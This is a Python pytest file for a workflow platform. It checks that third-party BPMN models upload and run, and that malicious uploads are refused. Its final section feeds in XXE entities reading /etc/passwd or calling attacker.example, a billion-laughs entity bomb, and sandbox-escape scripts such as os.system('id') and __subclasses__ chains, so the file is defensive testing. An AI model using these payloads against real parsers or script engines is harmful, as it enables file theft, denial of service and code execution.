"""Files from other modelers load and run: the BPMN MIWG reference models and SpiffWorkflow's own
examples (fixtures/bpmn/, sources in its README), each uploaded, started and driven to its end
through the services; and malicious files are refused with nothing stored."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from unittest import mock

import pytest
from django.utils import timezone

from apps.audit.models import AuditEvent
from apps.bpm import services
from apps.bpm.models import InstanceEvent, InstanceStatus, ProcessDefinition, ProcessVersion, WorkItem
from apps.tenancy.scope import institution_scope
from portal.errors import ValidationFailed

pytestmark = pytest.mark.django_db

FIXTURES = Path(__file__).resolve().parents[3] / "fixtures" / "bpmn"


def _upload(institution, admin, path: str):
    with institution_scope(institution):
        return services.definition_upload(
            institution=institution, actor=admin, file_name=Path(path).name, content=(FIXTURES / path).read_bytes()
        )


def _start(version, actor, data=None):
    with institution_scope(version.institution):
        return services.instance_start(definition=version.definition, actor=actor, data=data or {})


def _open_items(instance) -> list[WorkItem]:
    return list(WorkItem.all_institutions.filter(instance=instance, status__in=["open", "claimed"]).order_by("pk"))


def _complete(instance, actor, values_by_name: dict | None = None, limit: int = 20) -> list[str]:
    """Complete the open work items, in order, until none is left; returns the names worked."""
    worked = []
    for _ in range(limit):
        items = _open_items(instance)
        if not items:
            break
        item = items[0]
        values = (values_by_name or {}).get(item.name, (values_by_name or {}).get(item.element_id, {}))
        with institution_scope(instance.institution):
            services.work_item_complete(item=item, actor=actor, values=values)
        worked.append(item.name.strip())
    instance.refresh_from_db()
    return worked


def _reached(instance, action: str) -> list[str]:
    return [
        (name or element).strip()
        for name, element in InstanceEvent.all_institutions.filter(instance=instance, action=action)
        .order_by("pk")
        .values_list("element_name", "element_id")
    ]


def _refused(institution, admin, content: bytes) -> str:
    before = AuditEvent.objects.count()
    with institution_scope(institution), pytest.raises(ValidationFailed) as caught:
        services.definition_upload(institution=institution, actor=admin, file_name="bad.bpmn", content=content)
    assert not ProcessDefinition.all_institutions.exists()
    assert not ProcessVersion.all_institutions.exists()
    assert AuditEvent.objects.count() == before
    assert caught.value.code == "invalid_bpmn"
    return caught.value.message


# --- MIWG reference models (descriptive, isExecutable="false") ----------------------------------


def test_miwg_a10_three_tasks_in_sequence_run_through(aurelia, ada, alice):
    version = _upload(aurelia, ada, "miwg/A.1.0.bpmn")
    assert version.definition.key == "WFP-6-"
    instance = _start(version, alice)
    assert instance.status == InstanceStatus.COMPLETED
    assert _reached(instance, "bpm.step") == ["Task 1", "Task 2", "Task 3"]
    assert _reached(instance, "bpm.end_event") == ["End Event"]


@pytest.mark.parametrize("route", ["Task 2", "Task 3", "Task 4"])
def test_miwg_a20_a_person_decides_the_unconditioned_gateway(aurelia, ada, alice, route):
    version = _upload(aurelia, ada, "miwg/A.2.0.bpmn")
    gateway = version.elements["_35fe57a7-1302-44e2-bf58-032f11af7ecb"]
    assert gateway["form"][0]["options"] == ["Task 2", "Task 3", "Task 4"]
    instance = _start(version, alice)
    assert instance.status == InstanceStatus.RUNNING
    assert instance.active_elements == ["_35fe57a7-1302-44e2-bf58-032f11af7ecb"]
    assert _complete(instance, alice, {"Gateway  (Split Flow)": {"route": route}}) == ["Gateway  (Split Flow)"]
    assert instance.status == InstanceStatus.COMPLETED
    steps = _reached(instance, "bpm.step")
    assert route in steps and not ({"Task 2", "Task 3", "Task 4"} - {route}) & set(steps)
    assert _reached(instance, "bpm.end_event") == ["End Event"]
    chosen = InstanceEvent.all_institutions.get(instance=instance, action="bpm.task_complete")
    assert chosen.details["values"] == {"route": route}


def test_miwg_a20_the_route_must_be_one_of_the_branches(aurelia, ada, alice):
    instance = _start(_upload(aurelia, ada, "miwg/A.2.0.bpmn"), alice)
    (item,) = _open_items(instance)
    with institution_scope(aurelia), pytest.raises(ValidationFailed):
        services.work_item_complete(item=item, actor=alice, values={"route": "Task 9"})
    instance.refresh_from_db()
    assert instance.status == InstanceStatus.RUNNING


def test_miwg_a30_an_empty_collapsed_subprocess_is_a_step_and_its_boundary_events_wait(aurelia, ada, alice):
    instance = _start(_upload(aurelia, ada, "miwg/A.3.0.bpmn"), alice)
    assert instance.status == InstanceStatus.COMPLETED
    assert _reached(instance, "bpm.step")[:2] == ["Task 1", "Collapsed  Sub-Process"]
    assert "Task 2" in _reached(instance, "bpm.step")
    assert not {"Task 3", "Task 4"} & set(_reached(instance, "bpm.step"))
    assert _reached(instance, "bpm.end_event") == ["End Event 1"]


def test_miwg_a40_the_first_pool_of_a_collaboration_runs(aurelia, ada, alice):
    version = _upload(aurelia, ada, "miwg/A.4.0.bpmn")
    assert version.definition.key == "WFP-6-1"
    # the other pool's lanes and expanded sub-processes are read into the element table too
    assert version.elements["_ee35fa2c-dfea-40cf-a469-845b765a7b50"]["kind"] == "subProcess"
    instance = _start(version, alice)
    assert instance.status == InstanceStatus.COMPLETED
    assert _reached(instance, "bpm.step") == ["Task 1", "Task 2"]
    assert _reached(instance, "bpm.end_event") == ["End Event 1"]


def test_miwg_a41_signavio_collaboration_runs_its_first_pool(aurelia, ada, alice):
    version = _upload(aurelia, ada, "miwg/A.4.1.bpmn")
    assert version.definition.key == "sid-34746A54-1D7D-46CA-B219-0C4CEAE51170"
    assert version.definition.name == "Pool 1"
    instance = _start(version, alice)
    assert instance.status == InstanceStatus.COMPLETED
    assert _reached(instance, "bpm.step") == ["Task 1", "Task 2"]
    assert _reached(instance, "bpm.end_event") == ["End Event 1"]


def test_miwg_a21_conditional_flows_out_of_a_task_are_refused_with_the_reason(aurelia, ada):
    """Bonita's A.2.1 has two flows leaving a task (one conditional, one default); SpiffWorkflow
    supports branching only at gateways. Refused with the reason, nothing stored."""
    message = _refused(aurelia, ada, (FIXTURES / "miwg/A.2.1.bpmn").read_bytes())
    assert "Multiple outgoing flows" in message


def test_a_descriptive_model_with_scripts_is_refused_rather_than_run(aurelia, ada):
    content = (FIXTURES / "miwg/A.1.0.bpmn").read_bytes()
    content = content.replace(b"<semantic:task ", b"<semantic:scriptTask ", 1).replace(
        b"</semantic:task>", b"</semantic:scriptTask>", 1
    )
    message = _refused(aurelia, ada, content)
    assert 'isExecutable="false"' in message and "Task 1" in message


# --- SpiffWorkflow's own examples ----------------------------------------------------------------


@pytest.fixture
def engine_clock():
    """SpiffWorkflow also fires a timer when any engine step finds it due by the wall clock (the
    examples' PT0.03S timers would race the test): its clock stands still, and the tests move time
    only through timers_fire_due(now=...)."""
    frozen = timezone.now()

    class _Frozen(dt.datetime):
        @classmethod
        def now(cls, tz=None):
            return frozen if tz is not None else frozen.replace(tzinfo=None)

    with mock.patch("SpiffWorkflow.bpmn.specs.event_definitions.timer.datetime", _Frozen):
        yield frozen


def _gateway_to(instance, element_id: str) -> list[list[str]]:
    return [
        e.details["to"]
        for e in InstanceEvent.all_institutions.filter(
            instance=instance, action="bpm.gateway_taken", element_id=element_id
        ).order_by("pk")
    ]


@pytest.mark.parametrize(
    ("branch", "task", "values"),
    [("a", "Enter Task 2a", {"FormField_0taj99h": "blue"}), ("b", "Enter Task 2b", {"FormField_1l30p68": True})],
)
def test_spiff_exclusive_gateway_with_camunda_forms(aurelia, ada, alice, branch, task, values):
    version = _upload(aurelia, ada, "spiffworkflow/ExclusiveGatewayNavigation.bpmn")
    assert version.elements["Activity_07iglj7"]["form"][0]["options"] == ["a", "b"]
    assert version.elements["Activity_1b15riu"]["form"][0]["type"] == "text"  # camunda textarea
    instance = _start(version, alice)
    worked = _complete(
        instance,
        alice,
        {"Enter Task 1": {"which_branch": branch}, task: values, "Enter Task 3": {"FormField_3nh4vhj": "Once upon"}},
    )
    assert worked == ["Enter Task 1", task, "Enter Task 3"]
    assert instance.status == InstanceStatus.COMPLETED
    target = {"a": "Activity_19ig0xo", "b": "Activity_1hx53cu"}[branch]
    assert _gateway_to(instance, "Gateway_1lh8c45") == [[target]]
    assert _reached(instance, "bpm.end_event") == ["Event_0im2hti"]


def test_spiff_parallel_manual_tasks_and_a_comment_only_script(aurelia, ada, alice):
    instance = _start(_upload(aurelia, ada, "spiffworkflow/ParallelWithScript.bpmn"), alice)
    assert sorted(instance.active_elements) == ["user_task_A", "user_task_B", "user_task_C"]
    assert _gateway_to(instance, "Gateway_1") == [["script_task_C", "user_task_A", "user_task_B"]]
    assert "script_task_C" in InstanceEvent.all_institutions.filter(
        instance=instance, action="bpm.script_run"
    ).values_list("element_id", flat=True)
    assert sorted(_complete(instance, alice)) == ["Task A", "Task B", "Task C"]
    assert instance.status == InstanceStatus.COMPLETED
    assert _reached(instance, "bpm.end_event") == ["Event_0exe5n0"]


def test_spiff_intermediate_timer_with_a_date_from_the_data(aurelia, ada, alice):
    now = timezone.now()
    version = _upload(aurelia, ada, "spiffworkflow/Timer-Intermediate.bpmn20.xml")
    instance = _start(version, alice, {"due_time": (now + dt.timedelta(days=1)).isoformat()})
    assert instance.status == InstanceStatus.RUNNING and instance.next_timer_at is not None
    assert services.timers_fire_due(now=now) == 0
    assert services.timers_fire_due(now=now + dt.timedelta(days=2)) == 1
    instance.refresh_from_db()
    assert instance.status == InstanceStatus.COMPLETED
    assert _reached(instance, "bpm.timer_fired") == ["Due Time"]


def test_spiff_non_interrupting_timer_on_a_user_task(aurelia, ada, alice, engine_clock):
    instance = _start(_upload(aurelia, ada, "spiffworkflow/boundary_timer_on_task.bpmn"), alice)
    assert "user_task" in instance.active_elements
    assert services.timers_fire_due(now=engine_clock) == 0
    assert services.timers_fire_due(now=engine_clock + dt.timedelta(minutes=1)) == 1
    instance.refresh_from_db()
    assert instance.status == InstanceStatus.RUNNING  # non-interrupting: the task is still there
    assert _complete(instance, alice) == ["Say Anything"]
    assert instance.status == InstanceStatus.COMPLETED
    # the timer's branch ran its script (branches keep their own data: the end event's has False)
    assert _reached(instance, "bpm.script_run") == ["Set timer_called", "update timer_called"]
    assert _reached(instance, "bpm.end_event") == ["My End Event"]


def test_spiff_non_executable_process_runs_its_abstract_task_through(aurelia, ada, alice):
    instance = _start(_upload(aurelia, ada, "spiffworkflow/non-executable-process.bpmn"), alice)
    assert instance.status == InstanceStatus.COMPLETED
    assert _reached(instance, "bpm.step") == ["Activity_1jo1zac"]


def test_spiff_subprocess_loop_until_the_answer_is_yes(aurelia, ada, alice, engine_clock):
    instance = _start(_upload(aurelia, ada, "spiffworkflow/boundary.bpmn"), alice)
    answers = iter(["No", "No", "Yes"])
    worked = []
    for _ in range(6):
        items = _open_items(instance)
        if not items:
            break
        item = items[0]
        values = {"answer": next(answers)} if item.element_id == "Activity_Pester_Dad" else {}
        with institution_scope(aurelia):
            services.work_item_complete(item=item, actor=alice, values=values)
        worked.append(item.element_id)
    instance.refresh_from_db()
    assert worked == ["Activity_09c27ms", *["Activity_Pester_Dad"] * 3, "StopCar"]
    assert instance.status == InstanceStatus.COMPLETED
    assert "Activity_1ya1db2" not in worked
    assert _reached(instance, "bpm.end_event")[-1] == "Event_000aj7r"


def test_spiff_interrupting_timer_on_a_subprocess(aurelia, ada, alice, engine_clock):
    instance = _start(_upload(aurelia, ada, "spiffworkflow/boundary.bpmn"), alice)
    assert _complete(instance, alice, limit=1) == ["ReadyTogo"]
    assert "Activity_Pester_Dad" in instance.active_elements
    assert services.timers_fire_due(now=engine_clock + dt.timedelta(minutes=1)) == 1
    instance.refresh_from_db()
    assert [i.element_id for i in _open_items(instance)] == ["Activity_1ya1db2"]  # Scream head off
    assert _complete(instance, alice) == ["Scream head off", "Stop Car"]
    assert instance.status == InstanceStatus.COMPLETED
    assert "bpm.task_cancel" in InstanceEvent.all_institutions.filter(instance=instance).values_list(
        "action", flat=True
    )


@pytest.mark.parametrize(
    ("path", "says"),
    [
        # list comprehension and a subscript assignment: Python beyond the safe subset
        ("spiffworkflow/ScriptTest.bpmn", "“SecondScript”: line 1: assign to a plain name"),
        # its called process lives in another file (Civitas reads one file per process)
        ("spiffworkflow/call_activity_end_event.bpmn", "Call_Activity_Get_Data"),
        # dotted Camunda form field ids (pi.experience) write nested data: form fields are plain names
        ("spiffworkflow/ExclusiveGatewayMultipleEndNavigation.bpmn", "“Step 2”: the form field name 'pi.experience'"),
    ],
)
def test_spiff_examples_refused_by_design(aurelia, ada, path, says):
    assert says in _refused(aurelia, ada, (FIXTURES / path).read_bytes())


def test_spiff_script_with_print_calls_is_refused_naming_the_element_and_line(aurelia, ada):
    """call_activity_end_event.bpmn's own scripts, in a file of their own: print() is a call."""
    content = (FIXTURES / "spiffworkflow/call_activity_end_event.bpmn").read_bytes()
    content = content.replace(b'calledElement="Call_Activity_Get_Data"', b"")
    content = content.replace(b"bpmn:callActivity", b"bpmn:task")
    message = _refused(aurelia, ada, content)
    assert "“Print Data”: line 1: only assignments of the form name = expression" in message


def test_spiff_four_abstract_tasks_in_parallel_with_a_text_annotation(aurelia, ada, alice):
    instance = _start(_upload(aurelia, ada, "spiffworkflow/ParallelOrder.bpmn"), alice)
    assert instance.status == InstanceStatus.COMPLETED
    assert sorted(_reached(instance, "bpm.step")) == ["Task 1", "Task 2", "Task 3", "Task 4"]
    assert _reached(instance, "bpm.end_event") == ["Event_0l2ep9d"]


@pytest.mark.parametrize(("choice", "steps"), [("Yes", ["Yes Task", "Done"]), ("No", ["Done"])])
def test_spiff_parallel_branch_ends_early_and_the_inclusive_join_goes_on(aurelia, ada, alice, choice, steps):
    version = _upload(aurelia, ada, "spiffworkflow/Parallel-One-Path-Ends.bpmn20.xml")
    instance = _start(version, alice, {"choice": choice})
    assert instance.status == InstanceStatus.COMPLETED
    reached = _reached(instance, "bpm.step")
    assert {"Parallel Task", "Choice 1", *steps} <= set(reached)
    assert ("Yes Task" in reached) is (choice == "Yes")
    assert len(_reached(instance, "bpm.end_event")) == (1 if choice == "Yes" else 2)


# --- malicious files ------------------------------------------------------------------------------
# test_definitions.py covers a billion-laughs DTD, an internal SYSTEM entity, and scripts with
# import / __import__ / open( / __class__; these add the variants a real attacker would send,
# inside a real modeler's file.

CAMUNDA_FILE = "spiffworkflow/ExclusiveGatewayNavigation.bpmn"


def _with_doctype(doctype: str, *, replace: tuple[bytes, bytes] = (b"", b"")) -> bytes:
    content = (FIXTURES / CAMUNDA_FILE).read_bytes()
    content = content.replace(
        b'<?xml version="1.0" encoding="UTF-8"?>\n',
        b'<?xml version="1.0" encoding="UTF-8"?>\n' + doctype.encode() + b"\n",
        1,
    )
    return content.replace(*replace) if replace[0] else content


@pytest.mark.parametrize(
    ("doctype", "replace"),
    [
        # XXE in a gateway condition: the file's content would become an expression
        ('<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', (b"which_branch == 'a'", b"&xxe;")),
        # XXE by URL, out of band
        ('<!DOCTYPE d [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>', (b'name="a"', b'name="&xxe;"')),
        # an external DTD, no entity used
        ('<!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">', (b"", b"")),
        # parameter entities (the blind-XXE pattern)
        ('<!DOCTYPE d [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]>', (b"", b"")),
        # billion laughs, nine levels deep, expanded in a task name
        (
            '<!DOCTYPE d [<!ENTITY l0 "lol">'
            + "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
            + "]>",
            (b'name="Enter Task 1"', b'name="&l9;"'),
        ),
    ],
)
def test_entity_attacks_in_a_modeler_file_are_refused_before_parsing(aurelia, ada, doctype, replace):
    message = _refused(aurelia, ada, _with_doctype(doctype, replace=replace))
    assert "DTD" in message or "entit" in message or "external" in message
    assert "root:" not in message  # nothing of /etc/passwd came back


@pytest.mark.parametrize(
    ("script", "says"),
    [
        ("import os\nos.system('id')", "line 1: imports are not allowed"),
        ("x = 1\nfrom subprocess import run", "line 2: imports are not allowed"),
        ("x = __import__('os').system('id')", "only these functions may be called"),
        ("x = open('/etc/passwd').read()", "only these functions may be called"),
        ("x = eval('1')", "only these functions may be called"),
        ("x = getattr(data, 'keys')", "only these functions may be called"),
        ("x = ().__class__.__bases__[0].__subclasses__()", "only these functions may be called"),
        ("x = data.__globals__", "'__globals__' is not allowed"),
        ("x = __builtins__", "'__builtins__' is not allowed"),
        ("x = [c for c in 'ab']", "ListComp is not allowed"),
        ("x = lambda: 1", "Lambda is not allowed"),
    ],
)
def test_unsafe_scripts_in_a_spiff_example_are_refused_naming_element_line_and_reason(aurelia, ada, script, says):
    content = (FIXTURES / "spiffworkflow/boundary_timer_on_task.bpmn").read_bytes()
    content = content.replace(
        b"<bpmn:script>timer_called = False</bpmn:script>", f"<bpmn:script>{script}</bpmn:script>".encode()
    )
    message = _refused(aurelia, ada, content)
    assert message.startswith("“Set timer_called”: ") and says in message


def test_a_condition_with_an_import_is_refused(aurelia, ada):
    content = (FIXTURES / CAMUNDA_FILE).read_bytes().replace(b"which_branch == 'a'", b"__import__('os').system('id')")
    message = _refused(aurelia, ada, content)
    assert message.startswith("“Decide Which Branch?”: only these functions may be called")


def test_a_timer_expression_cannot_call_out(aurelia, ada):
    content = (FIXTURES / "spiffworkflow/Timer-Intermediate.bpmn20.xml").read_bytes()
    content = content.replace(b">due_time</timeDate>", b">open('/etc/passwd').read()</timeDate>")
    assert "“Due Time”: only these functions may be called" in _refused(aurelia, ada, content)
